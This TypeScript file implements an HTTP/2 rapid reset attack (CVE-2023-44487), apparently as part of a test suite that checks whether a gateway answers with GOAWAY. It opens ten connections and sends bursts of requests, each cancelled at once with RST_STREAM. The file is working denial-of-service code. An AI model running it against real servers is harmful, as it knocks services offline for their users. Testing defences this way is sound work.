/** HTTP/2 rapid reset (CVE-2023-44487): streams that are cancelled as soon as they are open. */

import { HOST } from '../../../support/forwarder.ts'
import { FrameClient, frameBytes, GOAWAY, RST_STREAM } from '../../../support/http2.ts'
import { type Attack, count, pause, type Tally, type Target } from './attack.ts'

const CONNECTIONS = 10
/** Streams of a connection, each time. */
const BURST = 50
const EVERY_MS = 50
const CANCEL = Buffer.from([0, 0, 0, 8])

export const rapidResets: Attack = async (target, signal) => {
  const tally: Tally = { 'streams reset': 0, connections: 0, GOAWAY: 0 }
  const one = async () => {
    while (!signal.aborted) await attackOnce(target, signal, tally)
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, one))
  return tally
}

/** Until the gateway has had enough of this connection. */
async function attackOnce({ port, ca, token }: Target, signal: AbortSignal, tally: Tally): Promise<void> {
  const client = await FrameClient.connect(port, ca)
  count(tally, 'connections')
  const fields = [
    [':method', 'GET'],
    [':scheme', 'https'],
    [':authority', HOST],
    [':path', '/api/orders'],
    ['authorization', `Bearer ${token}`],
  ] as const
  for (let stream = 1; !signal.aborted && !client.closed; ) {
    for (let i = 0; i < BURST; i++, stream += 2) {
      client.request(stream, fields)
      client.socket.write(frameBytes(RST_STREAM, 0, stream, CANCEL))
      count(tally, 'streams reset')
    }
    if (client.frames.some(({ type }) => type === GOAWAY)) break
    client.frames.length = 0
    await pause(EVERY_MS)
  }
  if (client.closed || client.frames.some(({ type }) => type === GOAWAY)) count(tally, 'GOAWAY')
  client.socket.destroy()
}
